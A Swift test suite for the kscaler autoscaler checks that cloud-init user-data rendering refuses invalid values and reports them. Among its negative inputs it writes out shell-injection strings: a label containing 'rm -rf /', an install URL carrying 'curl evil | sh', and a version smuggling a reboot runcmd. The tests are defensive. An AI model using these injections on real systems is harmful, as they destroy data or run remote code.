import KScalerCore
import Testing
@testable import KScaler

/// Every value is checked against its rule (userdata/README.md, "Placeholders") before any user
/// data leaves kscaler, and every problem is reported at once with the value and the fix.
@Suite struct UserDataValidationTests {
    static func config(clusterID: String = "demo", labels: [String: String] = [:], taints: [Taint] = [],
                       join: JoinParameters? = nil, region: String? = "eu-west-1") -> KScalerConfig {
        KScalerConfig(
            clusterID: clusterID, region: region, table: "kscaler", prometheus: PrometheusSettings(url: "http://127.0.0.1:9090"),
            workers: WorkerSettings(imageID: "ami-0123456789abcdef0", instanceTypes: ["t3.large"],
                                    sizes: ["t3.large": WorkerSize(cpuCores: 2, memoryBytes: 8 << 30)],
                                    labels: labels, taints: taints, join: join ?? .defaults(clusterID: clusterID)))
    }

    /// The problems of a render that must fail (an issue is recorded if it succeeds).
    static func problems(_ inputs: UserDataInputs, kind: UserDataKind = .k3sWorker) -> [UserDataProblem] {
        do {
            _ = try UserDataRenderer.render(kind, inputs)
            Issue.record("\(kind.rawValue) rendered, but should have been refused")
            return []
        } catch {
            #expect(error.kind == kind)
            return error.problems
        }
    }

    static func inputs(_ config: KScalerConfig = config(), setting values: [String: String] = [:]) throws -> UserDataInputs {
        var inputs = UserDataInputs(config: config)
        for (name, value) in values.sorted(by: { $0.key < $1.key }) { try inputs.set(name, to: value) }
        return inputs
    }

    @Test func aLabelThatCouldLeaveItsQuotesIsRefusedNamingTheValueAndTheConfigurationKey() throws {
        let config = Self.config(labels: ["a": "b'; rm -rf /; '"])
        let problems = Self.problems(try Self.inputs(config))
        #expect(problems.map(\.name) == ["node_labels"])
        let error = UserDataError(kind: .k3sWorker, problems: problems)
        #expect(error.description.contains("node_labels: \"a=b'; rm -rf /; '\" is not comma-separated key=value Kubernetes labels"))
        #expect(error.description.contains("Fix: fix workers.labels in the configuration"))
        // The run path refuses it too, rather than launching a worker that cannot boot.
        #expect(throws: UserDataError.self) { try UserDataRenderer.workerUserData(for: config) }
    }

    @Test(arguments: [
        ("k3s_install_url", "https://get.k3s.io/'; curl evil | sh; '"),
        ("k3s_install_url", "http://get.k3s.io/"),
        ("k3s_version", "v1.33\nruncmd: [reboot]"),
        ("k3s_install_sha256", String(repeating: "A", count: 64)),
        ("shutdown_grace_seconds", "0"),
        ("shutdown_grace_seconds", "{{x}}"),
    ])
    func settableValuesAreCheckedByTheirRules(name: String, value: String) throws {
        let problems = Self.problems(try Self.inputs(setting: [name: value]))
        #expect(problems.map(\.name) == [name])
        #expect(problems.first?.message.contains("\"\(value)\" is not") == true)
    }

    @Test(arguments: ["kscaler.io/pool", "kubernetes.io/role", "node-role.kubernetes.io/worker", "k8s.io/x", "apps.k8s.io/x"])
    func labelsKscalerOrTheKubeletRefuseAreRefused(key: String) throws {
        let problems = Self.problems(try Self.inputs(Self.config(labels: [key: "x", "workload": "batch"])))
        #expect(problems.map(\.name) == ["node_labels"])
        #expect(problems.first?.message.hasPrefix(key) == true)
        #expect(problems.first?.fix.contains("workers.labels") == true)
    }

    @Test func labelsInTheKubeletsOwnNamespacesAndUnprefixedOnesAreKept() throws {
        let labels = ["node.kubernetes.io/instance-group": "a", "team.kubelet.kubernetes.io/x": "b", "example.com/role": "gpu", "tier": ""]
        let rendered = try UserDataRenderer.render(.kubeadmWorker, Self.inputs(Self.config(labels: labels)))
        #expect(rendered.contains("KSCALER_NODE_LABELS='example.com/role=gpu,node.kubernetes.io/instance-group=a,team.kubelet.kubernetes.io/x=b,tier='\n"))
    }

    @Test func aClusterIDTheConfigurationAcceptsButUserDataCannotCarryIsRefused() throws {
        // The configuration allows a trailing dash; a Kubernetes label value does not.
        let problems = Self.problems(try Self.inputs(Self.config(clusterID: "demo-")))
        #expect(problems.map(\.name) == ["cluster_id"])
        #expect(problems.first?.fix.contains("cluster_id in the configuration") == true)
    }

    @Test func aJoinParameterOutsideTheRuleIsRefused() throws {
        let join = JoinParameters(tokenParameter: "join-token", serverURLParameter: "/kscaler/demo/" + String(repeating: "p", count: 1000))
        let problems = Self.problems(try Self.inputs(Self.config(join: join)))
        #expect(problems.map(\.name) == ["token_parameter", "server_url_parameter"])
        #expect(problems.first?.fix.contains("workers.join.token_parameter") == true)
    }

    @Test func everyProblemIsReportedAtOnceInTemplateOrder() throws {
        let config = Self.config(labels: ["kscaler.io/cluster": "x"], taints: [Taint(key: "a b", effect: .noSchedule)])
        let problems = Self.problems(try Self.inputs(config, setting: ["k3s_version": "latest", "shutdown_grace_seconds": "100000"]))
        #expect(problems.map(\.name) == ["node_labels", "node_taints", "shutdown_grace_seconds", "k3s_version"])
    }

    @Test func theCriticalPodsGracePeriodMustBeShorterThanTheWhole() throws {
        let problems = Self.problems(try Self.inputs(setting: ["shutdown_grace_seconds": "30", "shutdown_grace_critical_seconds": "30"]), kind: .kubeadmWorker)
        #expect(problems.map(\.name) == ["shutdown_grace_critical_seconds"])
        #expect(problems.first?.message == "30 is not less than shutdown_grace_seconds (30)")
        let rendered = try UserDataRenderer.render(.kubeadmWorker, Self.inputs(setting: ["shutdown_grace_seconds": "30", "shutdown_grace_critical_seconds": "29"]))
        #expect(rendered.contains("KSCALER_SHUTDOWN_GRACE_SECONDS='30'\n    KSCALER_SHUTDOWN_GRACE_CRITICAL_SECONDS='29'\n"))
    }

    @Test func aKubeadmTokenMustOutliveItsRotationByHalfAnHour() throws {
        let problems = Self.problems(try Self.inputs(setting: ["rotate_after_minutes": "60", "token_ttl_minutes": "89"]), kind: .kubeadmControlPlane)
        #expect(problems.map(\.name) == ["token_ttl_minutes"])
        #expect(problems.first?.fix.contains("at least 90") == true)
        let rendered = try UserDataRenderer.render(.kubeadmControlPlane, Self.inputs(setting: ["rotate_after_minutes": "60", "token_ttl_minutes": "90"]))
        #expect(rendered.contains("KSCALER_TOKEN_TTL_MINUTES='90'\n"))
    }

    @Test func setTakesOnlyWhatTheConfigurationHasNoKeyFor() throws {
        var inputs = UserDataInputs(config: Self.config())
        #expect(throws: UserDataError.Setting(description: "pool comes from the configuration: set workers.pool there")) {
            try inputs.set("pool", to: "gpu")
        }
        #expect(throws: UserDataError.Setting.self) { try inputs.set("k3s_verison", to: "v1.33.1+k3s1") }
        #expect(inputs == UserDataInputs(config: Self.config()))
        #expect(!UserDataInputs.settableNames.contains("node_labels"))
        #expect(UserDataInputs.settableNames.contains("k3s_version"))
    }

    @Test func aValueSetButNotUsedByTheTemplateIsAMistake() throws {
        let problems = Self.problems(try Self.inputs(setting: ["kubeadm_api_version": "v1beta3"]), kind: .k3sWorker)
        #expect(problems.map(\.name) == ["kubeadm_api_version"])
        #expect(problems.first?.message == "not used by k3s-worker user data")
    }

    @Test func installingKscalerOnAServerNeedsTheBinaryItsHashAndTheConfiguration() throws {
        var inputs = UserDataInputs(config: Self.config(region: nil))
        inputs.sections = ["install_kscaler"]
        let problems = Self.problems(inputs, kind: .k3sServer)
        #expect(problems.map(\.name) == ["region", "kscaler_binary_url", "kscaler_binary_sha256", "kscaler_config"])
        #expect(problems.first?.fix == "set region in the configuration, or --set region=eu-west-1")

        inputs.blocks = ["kscaler_config": "cluster_id: demo\nnote: \"{{cluster_id}}\"\n"]
        try inputs.set("region", to: "eu-west-1")
        try inputs.set("kscaler_binary_url", to: "https://example.com/kscaler")
        try inputs.set("kscaler_binary_sha256", to: String(repeating: "b", count: 64))
        #expect(Self.problems(inputs, kind: .k3sServer).map(\.name) == ["kscaler_config"])
        inputs.blocks = ["kscaler_config": "cluster_id: demo\n"]
        #expect(try UserDataRenderer.render(.k3sServer, inputs).contains("- [/usr/local/sbin/kscaler-install, 'https://example.com/kscaler', 'bbbb"))
    }

    @Test func withoutTheSectionItsValuesAreNotNeeded() throws {
        let rendered = try UserDataRenderer.render(.kubeadmControlPlane, UserDataInputs(config: Self.config(region: nil)))
        #expect(!rendered.contains("kscaler-install"))
        #expect(!rendered.contains("{{"))
    }

    @Test func aSectionTheTemplateDoesNotHaveIsRefused() throws {
        var inputs = UserDataInputs(config: Self.config())
        inputs.sections = ["install_kscaler"]
        let problems = Self.problems(inputs, kind: .kubeadmWorker)
        #expect(problems.map(\.name) == ["install_kscaler"])
        #expect(problems.first?.message == "kubeadm-worker user data has no section install_kscaler")
    }

    /// kscaler passes worker user data to RunInstances as it is: more than EC2's 16 KB is an
    /// error naming the size, before any launch.
    @Test func workerUserDataOverEC2sLimitIsRefused() throws {
        func labels(_ count: Int) -> [String: String] {
            Dictionary(uniqueKeysWithValues: (0..<count).map { index in
                ("example.com/" + String(repeating: "k", count: 48) + "\(index + 100)", String(repeating: "v", count: 63))
            })
        }
        let fitting = try UserDataRenderer.render(.k3sWorker, Self.inputs(Self.config(labels: labels(40))))
        #expect((UserDataRenderer.ec2Limit - 1_000...UserDataRenderer.ec2Limit).contains(fitting.utf8.count))

        let problems = Self.problems(try Self.inputs(Self.config(labels: labels(50))), kind: .k3sWorker)
        #expect(problems.map(\.name) == ["size"])
        let message = try #require(problems.first?.message)
        #expect(message.hasSuffix("bytes; EC2 accepts at most 16384"))
        let bytes = try #require(Int(message.dropFirst("the user data is ".count).prefix(while: \.isNumber)))
        #expect(bytes == fitting.utf8.count + 10 * ",\(labels(1).first!.key)=\(labels(1).first!.value)".utf8.count)
        #expect(throws: UserDataError.self) { try UserDataRenderer.workerUserData(for: Self.config(labels: labels(50))) }
    }

    /// The Python tests' long values (infra/tests/test_cloud_init_schema.py, FULL_VALUES): worker
    /// user data keeps a quarter of EC2's budget free.
    @Test(arguments: [UserDataKind.k3sWorker, .kubeadmWorker])
    func workerUserDataWithLongValuesKeepsAQuarterOfTheBudgetFree(kind: UserDataKind) throws {
        let rendered = try UserDataRenderer.render(kind, Self.longValueInputs(kind))
        #expect(rendered.utf8.count < UserDataRenderer.ec2Limit * 3 / 4)
    }

    /// Values at their longest, as FULL_VALUES has them, for `kind`.
    static func longValueInputs(_ kind: UserDataKind, installKscaler: Bool = false) throws -> UserDataInputs {
        let clusterID = "c" + String(repeating: "x", count: 38) + "z"
        var config = config(clusterID: clusterID, labels: Dictionary(uniqueKeysWithValues: (0..<8).map { ("example.com/label-\($0)", "value-\($0)") }),
                            taints: [Taint(key: "dedicated", value: "batch", effect: .noSchedule), Taint(key: "spot", value: "true", effect: .preferNoSchedule)])
        config.workers.pool = String(repeating: "p", count: 63)
        var values: [String: String] = [:]
        switch kind {
        case .k3sProxmoxWorker:
            values = ["k3s_install_url": "https://get.k3s.io/", "k3s_install_sha256": String(repeating: "a", count: 64), "k3s_version": "v1.33.1+k3s1",
                      "proxmox_cluster_name": "p" + String(repeating: "x", count: 38) + "Z"]
        case .k3sWorker:
            values = ["k3s_install_url": "https://get.k3s.io/", "k3s_install_sha256": String(repeating: "a", count: 64), "k3s_version": "v1.33.1+k3s1"]
        case .kubeadmWorker:
            values = ["kubeadm_api_version": "v1beta3"]
        case .k3sServer, .kubeadmControlPlane:
            values = ["server_url": "https://api.k8s.example.com:6443"]
        }
        var inputs = try inputs(config, setting: values)
        if installKscaler {
            inputs.sections = ["install_kscaler"]
            inputs.blocks = ["kscaler_config": "cluster_id: \(clusterID)\nregion: eu-west-1\ntable: kscaler\n"]
            try inputs.set("kscaler_binary_url", to: "https://example.com/kscaler")
            try inputs.set("kscaler_binary_sha256", to: String(repeating: "b", count: 64))
        }
        return inputs
    }
}
